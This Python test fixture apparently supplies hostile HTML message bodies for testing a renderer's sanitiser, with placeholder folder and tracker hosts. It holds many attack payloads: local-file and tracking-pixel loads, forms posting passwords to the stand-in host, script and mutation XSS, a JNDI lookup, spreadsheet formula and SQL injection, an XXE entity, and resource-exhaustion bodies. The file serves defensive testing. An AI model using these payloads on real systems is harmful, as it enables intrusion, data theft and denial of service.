# ruff: noqa: E501
"""Bodies of messages as somebody with bad intentions writes them (trust.md T12).

`CANARY` stands for a folder whose files nobody may open, `TRACKER` for a server that nobody may call. A body is one line, however long.
"""

from collections.abc import Mapping
from types import MappingProxyType

CANARY, TRACKER = "CANARY", "TRACKER"
WORD = "heron"
"""Stands in every body whose text is meant to stay."""

_READING: dict[str, str] = {
    "picture of a file": "<p>heron<img src='file://CANARY/picture.png'>",
    "picture by a path": "<p>heron<img src='CANARY/picture.png'><img src=CANARY/picture.png>",
    "picture of the password file": "<p>heron<img src='file:///etc/passwd'><img src=/etc/passwd>",
    "picture on a share": r"<p>heron<img src='//TRACKER/share/x.png'><img src='\\TRACKER\share\x.png'>",
    "picture by file and host": "<p>heron<img src='file://TRACKER/share/x.png'><img src='file:////TRACKER/s/x.png'>",
    "picture by smb": "<p>heron<img src='smb://TRACKER/share/x.png'>",
    "picture of the resources": "<p>heron<img src=':/qt-project.org/styles/commonstyle/images/file-16.png'><img src=qrc:/x>",
    "picture from the web": "<p>heron<img src='http://TRACKER/pixel.png'><img src='https://TRACKER/pixel.png'>",
    "picture from the web in capitals": "<P>heron<IMG SRC='HTTP://TRACKER/pixel.png'><IMG SRC='FiLe://CANARY/picture.png'>",
    "picture with spaces in its address": "<p>heron<img src=' file://CANARY/picture.png'><img src='\tfi\nle://CANARY/picture.png'>",
    "picture with encoded address": "<p>heron<img src='file&#58;//CANARY/picture.png'><img src='&#x66;ile://CANARY/picture.png'>",
    "picture with percent signs": "<p>heron<img src='file://CANARY/%70icture.png'><img src='cid:../../CANARY/picture.png'>",
    "picture named by hash of another ticket": "<p>heron<img src='sha256:" + "0" * 64 + "'><img src='sha256:../CANARY/picture.png'>",
    "picture set": "<p>heron<img srcset='file://CANARY/picture.png 1x, http://TRACKER/2x.png 2x'><picture><source srcset=http://TRACKER/s.png></picture>",
    "picture of data": "<p>heron<img src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='>",
    "picture of data as svg": "<p>heron<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='file://CANARY/picture.png'/></svg>\">",
    "lazy pictures": "<p>heron<img loading=lazy lowsrc=http://TRACKER/low.png dynsrc=file://CANARY/picture.png longdesc=http://TRACKER/d>",
    "background of the body": "<body background='file://CANARY/picture.png'><p>heron",
    "background of a table": "<table background='CANARY/picture.png'><tr><td background=/etc/hosts>heron",
    "background by style": "<p style='background:url(file://CANARY/picture.png)'>heron<b style=\"background-image:url('http://TRACKER/b.png')\">",
    "style sheet": "<style>body { background-image: url(file://CANARY/picture.png) }</style><p>heron",
    "style sheet by import": "<style>@import url(file://CANARY/style.css); @import 'http://TRACKER/style.css';</style><p>heron",
    "style sheet by link": "<link rel=stylesheet href=file://CANARY/style.css><link rel=stylesheet href=http://TRACKER/x.css><p>heron",
    "style sheet with a font": "<style>@font-face { font-family: x; src: url(http://TRACKER/x.woff) }</style><p style='font-family:x'>heron",
    "list with a picture": "<ul style='list-style-image:url(file://CANARY/picture.png)'><li>heron</ul>",
    "base address": "<base href='file://CANARY/'><p>heron<img src=picture.png><a href=page.html>x</a>",
    "base on the web": "<base href='http://TRACKER/'><p>heron<img src=pixel.png>",
    "refresh": "<meta http-equiv=refresh content='0;url=file://CANARY/page.html'><meta http-equiv=refresh content='0;url=http://TRACKER/'><p>heron",
    "frame": "<p>heron<iframe src=file://CANARY/page.html></iframe><iframe src=http://TRACKER/ srcdoc='<img src=http://TRACKER/>'></iframe>",
    "frame set": "<frameset><frame src=file://CANARY/page.html></frameset><p>heron",
    "object": "<p>heron<object data=file://CANARY/picture.png type=image/png></object><embed src=http://TRACKER/x.swf><applet code=x>",
    "sound and film": "<p>heron<video src=http://TRACKER/v.mp4 poster=file://CANARY/picture.png></video><audio src=http://TRACKER/a.mp3 autoplay></audio><bgsound src=http://TRACKER/b.wav>",
    "svg": "<p>heron</p><svg onload=alert(1)><image href='file://CANARY/picture.png'/><use href='http://TRACKER/x.svg#a'/></svg>",
    "mathml": "<p>heron</p><math><maction actiontype='statusline#http://TRACKER'><mtext><img src=file://CANARY/picture.png></mtext></maction></math>",
    "comment for one program": "<!--[if mso]><img src=file://CANARY/picture.png><![endif]--><p>heron<![CDATA[<img src=http://TRACKER/>]]>",
    "word tags": "<v:imagedata src='file://CANARY/picture.png'/><o:p>heron</o:p>",
    "template": "<template><img src=file://CANARY/picture.png></template><noscript><img src=http://TRACKER/n.png></noscript><p>heron",
}  # fmt: skip

_ACTING: dict[str, str] = {
    "script": "<script>alert(1)</script><script src=http://TRACKER/x.js></script><p onclick=alert(1) onmouseover='x()'>heron",
    "script in a link": "<p>heron <a href='javascript:alert(1)'>x</a><a href='java\nscript:alert(1)'>y</a><a href='&#106;avascript:x'>z</a>",
    "program in a link": "<p>heron <a href='file://CANARY/page.html'>x</a><a href='ms-word:ofe|u|http://TRACKER/x.docx'>y</a><a href='vbscript:x'>z</a>",
    "link to data": "<p>heron <a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "link that lies": "<p>heron <a href='http://bank.example@TRACKER/'>https://bank.example</a><a href='http://\u202emoc.knab'>x</a>",
    "form": "<form action=http://TRACKER/ method=post><input name=password type=password autofocus><input type=file><button>heron</button></form><p>heron",
    "form without a click": "<p>heron<isindex action=http://TRACKER/ prompt=x><select onfocus=x()><option>a</select><textarea>b</textarea>",
    "title that closes itself": "<title></title><img src=file://CANARY/picture.png></title><p>heron",
    "mutation": "<p>heron<svg></p><style><a id=\"</style><img src=file://CANARY/picture.png>\">",
    "mutation by mathml": "<p>heron</p><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=file://CANARY/picture.png&gt;'>",
    "broken tags": "<p>heron<img/src='file://CANARY/picture.png'/><img src=file://CANARY/picture.png/<p <b <i",
    "unclosed comment": "<p>heron</p><!-- <img src=file://CANARY/picture.png> -- > <img src=http://TRACKER/c.png>",
    "null signs": "<p>heron\x00<im\x00g src=file://CANARY/picture.png><scr\x00ipt>x</scr\x00ipt>",
    "signs that are none": "<p>heron&#0;&#xD800;&#x202E;&#xFFFE;&#x110000;&amp;lt;script&amp;gt;",
    "turned text": "<p>heron \u202egnp.exe\u2066 \u200f\u061c\u2067 file</p>",
    "another charset": "+ADw-img src=+ACI-file://CANARY/picture.png+ACI-+AD4-<p>heron",
    "doctype with an entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://CANARY/style.css'>]><p>heron &e;",
    "formula": "<p>heron</p><p>=cmd|' /C calc'!A0</p><p>@SUM(1+1)*cmd|' /C calc'!A0</p>",
    "template signs": "<p>heron %s %n {0} {name} {self.__class__} ${jndi:ldap://TRACKER/a} {{7*7}} <%= 7*7 %></p>",
    "sql": "<p>heron'; DROP TABLE messages; --</p>",
}  # fmt: skip

_HEAVY: dict[str, str] = {
    "tables in tables, 16": "<table><tr><td>" * 16 + WORD,
    "tables in tables, 20": "<table><tr><td>" * 20 + WORD,
    "tables in tables, 24": "<table><tr><td>" * 24 + WORD,
    "tables in tables, 5000": "<table><tr><td>" * 5_000 + WORD,
    "20000 div in div": "<div>" * 20_000 + WORD,
    "20000 span in span": "<span>" * 20_000 + WORD,
    "20000 bold in bold": "<b>" * 20_000 + WORD,
    "20000 font in font": "<font size=7>" * 20_000 + WORD,
    "5000 links in links": "<a href='http://x.example'>" * 5_000 + WORD,
    "lists in lists": "<ul><li>" * 3_000 + WORD,
    "quotes in quotes": "<blockquote>" * 3_000 + WORD,
    "a word of 5 MB": "w" * 5_000_000,
    "a word of 200 kB": f"<p>{WORD} " + "w" * 200_000,
    "a link of 1 MB": f"<p>{WORD} <a href='http://x.example/{'a' * 1_000_000}'>x</a>",
    "20000 paragraphs": f"<p>{WORD}</p>" * 20_000,
    "60000 line ends": WORD + "<br>" * 60_000,
    "60000 rules": WORD + "<hr>" * 60_000,
    "100000 lines of code": "<pre>" + f"{WORD}\n" * 100_000,
    "a table of 20000 columns": "<table><tr>" + f"<td>{WORD}" * 20_000,
    "a table of 20000 rows": "<table>" + f"<tr><td>{WORD}" * 20_000,
    "cells of a million": f"<table><tr><td colspan=1000000 rowspan=1000000>{WORD}<td colspan=-1>x<td rowspan=9999999999999>y",
    "3000 large pictures": f"<p>{WORD}" + "<img src='cid:none' width=2000 height=2000>" * 3_000,
    "a picture of a million": f"<p>{WORD}<img src='cid:none' width=1000000 height=1000000 border=99999>",
    "50000 spaces": f"<pre>{WORD}" + " " * 500_000 + "x",
    "angle brackets": "<" * 200_000 + WORD,
    "ampersands": f"<p>{WORD}" + "&" * 200_000,
    "entities": f"<p>{WORD}" + "&amp;" * 50_000,
    "arabic": f"<p>{WORD} " + "\u0627\u0644" * 100_000,
    "marks on marks": f"<p>{WORD} " + "a\u0301\u0302\u0303" * 60_000,
    "one letter with 50000 marks": f"<p>{WORD} a" + "\u0301" * 50_000,
    "emoji families": f"<p>{WORD} " + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20_000,
    "chinese without a space": f"<p>{WORD} " + "\u4e2d\u6587" * 100_000,
    "soft hyphens": f"<p>{WORD} " + "a\u00ad" * 100_000,
    "turned and turned": f"<p>{WORD} " + "\u202ea\u202db" * 50_000,
    "10000 attributes": "<p " + " ".join(f"a{n}=x" for n in range(10_000)) + f">{WORD}",
    "an attribute of 4 MB": f"<p title='{'x' * 4_000_000}'>{WORD}",
    "10000 list numbers": "<ol start=99999999999>" + f"<li>{WORD}" * 10_000,
    "unclosed comments": f"<p>{WORD}</p>" + "<!--" * 100_000,
    "unclosed tags": f"<p>{WORD}</p>" + "<a " * 100_000,
    "unclosed styles": f"<p>{WORD}</p>" + "<style>" * 20_000,
}  # fmt: skip

BODIES: Mapping[str, str] = MappingProxyType({**_READING, **_ACTING, **_HEAVY})


def aimed(body: str, canary: str, tracker: str) -> str:
    """The body with the folder and the server that are watched."""
    return body.replace(CANARY, canary).replace(TRACKER, tracker)
